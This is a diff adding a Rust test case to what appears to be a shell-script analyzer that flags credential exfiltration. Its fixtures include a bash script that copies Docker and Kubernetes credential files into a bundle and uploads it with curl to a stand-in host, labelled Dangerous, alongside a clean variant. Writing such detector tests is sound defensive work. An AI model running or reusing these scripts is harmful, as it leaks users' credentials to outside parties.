@@ -7142,3 +7142,33 @@ fn members_of_the_scripts_own_instances_reach_their_callers() {
     ];
     check_all(rows);
 }
+
+/// `cp` reads every file its source may name: a loop over a list of paths, one of them a
+/// credential file, copying each into a bundle directory copies the credential there.
+#[test]
+fn a_copy_reads_every_file_its_source_may_name() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // an array of paths in a function, copied into a directory the script packs and sends
+        (
+            Sh,
+            "#!/bin/bash\nset -eu\nDEST=\"$PWD/diag/now\"\nmkdir -p \"$DEST\"\ngather() {\n  local -a picks=(\"$PWD/package.json\" \"$HOME/.docker/config.json\")\n  for p in \"${picks[@]}\"; do\n    [ -f \"$p\" ] && cp \"$p\" \"$DEST/\" || true\n  done\n}\ngather\ntar -C \"$PWD/diag\" -czf \"$DEST.tgz\" now\ncurl -s -F \"b=@$DEST.tgz\" https://intake.example.net/b\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the loop's words themselves
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p diag\nfor p in README.md \"$HOME/.kube/config\"; do\n  cp \"$p\" diag/\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the same loop over the project's own files: clean
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p diag\nfor p in README.md package.json; do\n  cp \"$p\" diag/\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
